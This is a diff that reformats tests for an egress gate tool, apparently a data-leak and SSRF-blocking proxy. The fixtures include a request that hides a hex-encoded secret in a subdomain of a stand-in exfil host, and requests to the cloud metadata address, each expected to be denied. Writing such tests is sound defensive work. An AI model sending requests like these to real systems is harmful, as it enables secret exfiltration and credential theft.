@@ -84,7 +84,10 @@ describe('explain and policy test tell the whole verdict', () => {
     const v = await explainJson('GET', 'https://7365637265745f6b65795f6c65616b6564.exfil.example.com/');
     assert.equal(v.outcome, 'deny');
     assert.equal(v.answer?.error, 'dlp_blocked');
-    assert.ok(v.findings.some((f) => f.type.startsWith('hostname_')), JSON.stringify(v.findings));
+    assert.ok(
+      v.findings.some((f) => f.type.startsWith('hostname_')),
+      JSON.stringify(v.findings),
+    );
   });
 
   test('a credential over plain HTTP: credential_plaintext_refused; over HTTPS: allow with it', async () => {
@@ -104,7 +107,9 @@ describe('explain and policy test tell the whole verdict', () => {
 
   test('policy test judges cases as the gate answers them, and takes expect.error', async () => {
     const cases = join(d.dir, 'cases.yaml');
-    await writeFile(cases, `cases:
+    await writeFile(
+      cases,
+      `cases:
   - name: metadata is refused
     request: GET http://169.254.169.254/latest/meta-data/
     expect: { outcome: deny, error: ssrf_blocked }
@@ -120,14 +125,18 @@ describe('explain and policy test tell the whole verdict', () => {
   - name: wrong on purpose
     request: GET http://169.254.169.254/
     expect: { outcome: allow, rule: everything }
-`);
+`,
+    );
     const r = await sluice(['policy', 'test', cases, '--config', d.configFile]);
     assert.equal(r.code, 1, r.stdout + r.stderr);
     assert.match(r.stdout, /^✓ metadata is refused$/m);
     assert.match(r.stdout, /^✓ localhost is refused$/m);
     assert.match(r.stdout, /^✓ plain credential is refused$/m);
     assert.match(r.stdout, /^✓ tls credential is fine$/m);
-    assert.match(r.stdout, /^✗ wrong on purpose: outcome: expected allow, got deny; rule: expected everything, got none \(refused by the gate: ssrf_blocked before the policy/m);
+    assert.match(
+      r.stdout,
+      /^✗ wrong on purpose: outcome: expected allow, got deny; rule: expected everything, got none \(refused by the gate: ssrf_blocked before the policy/m,
+    );
     assert.match(r.stdout, /^4 passed, 1 failed$/m);
   });
 });
@@ -176,7 +185,9 @@ rules:
   ];
   for (const url of urls) {
     test(`GET ${url}`, async () => {
-      const { response } = await rawExchange(g.port, `GET ${url} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: ${g.auth}\r\nConnection: close\r\n\r\n`, { timeoutMs: 5000 });
+      const { response } = await rawExchange(g.port, `GET ${url} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: ${g.auth}\r\nConnection: close\r\n\r\n`, {
+        timeoutMs: 5000,
+      });
       const gate = parseRawResponse(response);
       const r = await sluice(['explain', '--config', g.configFile, '--agent', 'test-agent', '--tenant', 'acme', '--json', 'GET', url]);
       assert.equal(r.code, 3, `a refusal exits 3: ${r.stderr}`);
